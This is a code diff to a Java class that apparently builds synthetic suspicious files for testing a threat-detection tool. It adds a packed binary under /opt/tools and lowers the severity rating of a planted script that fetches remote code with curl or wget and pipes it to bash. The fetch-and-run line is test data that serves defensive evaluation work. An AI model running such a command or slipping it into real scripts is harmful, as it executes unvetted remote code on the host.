@@ -121,6 +121,10 @@ final class FileArtefacts {
         String packed =
                 ground.program("/usr/bin/" + ground.word(), ground.inert.packed(ground.dice));
         ground.artefact("packed program", "packed-binary", "medium", packed);
+
+        String tool =
+                ground.program("/opt/tools/" + ground.word(), ground.inert.packed(ground.dice));
+        ground.artefact("packed tool where tools are kept", "packed-binary", "low", tool);
     }
 
     private static void scripts(Ground ground) {
@@ -130,7 +134,8 @@ final class FileArtefacts {
                         "/usr/local/sbin/" + ground.word() + ".sh",
                         "#!/bin/bash\n(curl -fsSL %s || wget -q -O- %s) | bash\n"
                                 .formatted(dice.url(), dice.url()));
-        ground.artefact("script that fetches and runs", "download-and-run", "high", fetch);
+        // Administrators keep scripts there too.
+        ground.artefact("script that fetches and runs", "download-and-run", "medium", fetch);
 
         String rivals =
                 ground.script(
